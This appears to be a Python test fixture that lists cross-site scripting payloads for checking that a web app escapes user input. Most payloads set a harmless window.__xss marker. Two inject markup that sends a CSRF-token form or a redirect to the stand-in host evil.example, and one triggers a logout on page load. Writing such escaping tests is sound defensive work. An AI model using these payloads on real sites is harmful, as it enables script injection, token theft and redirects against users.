"""Strings that do something where somebody forgets to escape them (T11, T12)."""

from __future__ import annotations

#: Each sets ``window.__xss`` if it ever runs.
PAYLOADS = (
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=2>",
    "<svg onload=window.__xss=3>",
    '"><b onmouseover=window.__xss=4>',
    "'><iframe srcdoc='<script>parent.__xss=5</script>'>",
    "</textarea></title></style><script>window.__xss=6</script>",
    "javascript:window.__xss=7//",
    "{{7*7}}{% debug %}${window.__xss=8}`${window.__xss=8}`",
    "</script><script>window.__xss=9</script><!--",
    "\u2028window.__xss=10\u2029",
    '<div hx-get="/account/logout/" hx-trigger="load" hx-on:load="window.__xss=11">',
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
)
#: All of them in one line, short enough for a title.
MIXED = "<script>window.__xss=1</script>\"'><img src=x onerror=window.__xss=2></title>{{7*7}}"
#: The same for places that hold up to 60 characters.
SHORT = '"><img src=x onerror=window.__xss=3></script>{{7*7}}'
#: An article that consists of them.
TEXT = "The port council reversed its waiver.\n\n" + "\n\n".join(PAYLOADS) + "\n"
